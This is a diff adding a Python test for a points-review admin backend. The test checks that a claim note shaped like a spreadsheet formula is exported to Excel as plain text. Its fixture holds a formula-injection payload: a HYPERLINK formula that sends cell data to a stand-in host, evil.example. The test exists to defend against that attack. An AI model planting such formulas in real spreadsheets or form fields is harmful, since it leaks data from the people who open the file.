@@ -5,8 +5,11 @@ from __future__ import annotations
 import random
 import re
 from datetime import date, timedelta
+from io import BytesIO
+from zipfile import ZipFile
 
 import time_machine
+from openpyxl import load_workbook
 from sqlalchemy import func, select
 
 from backend.auth.models import User
@@ -225,6 +228,20 @@ def test_queue_and_history_export_to_excel(admin, database, world) -> None:
     history = read_xlsx(client.get("/admin/points/review/history?format=xlsx"))
     assert len(history) == 2 and history[1][11] == "已驳回" and history[1][13] == "照片不清晰"
     assert raw_name not in str(history)
+
+
+def test_a_claim_note_that_looks_like_a_formula_is_exported_as_plain_text(admin, database, world) -> None:
+    hostile = '=HYPERLINK("http://evil.example/?leak="&B2,"点此查看证明")'
+    with database() as s:
+        claim_id = add_claim(s, world, "H1", "P06", note=hostile)
+        add_claim(s, world, "H2", "P06", note="-5 分是误扣，请核实")
+    response = admin("reviewer").get("/admin/points/review?format=xlsx")
+    sheet = load_workbook(BytesIO(response.data)).worksheets[0]
+    notes = {row[0].value: row[9] for row in sheet.iter_rows(min_row=2)}
+    assert notes[claim_id].value == hostile and notes[claim_id].data_type == "s", "text, not a formula Excel runs"
+    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
+    assert b"<f>" not in ZipFile(BytesIO(response.data)).read("xl/worksheets/sheet1.xml")
+    assert "-5 分是误扣，请核实" in {cell.value for cell in notes.values()}
 
 
 def test_queue_page_needs_the_same_number_of_queries_for_2_or_12_claims(app, admin, database, world) -> None:
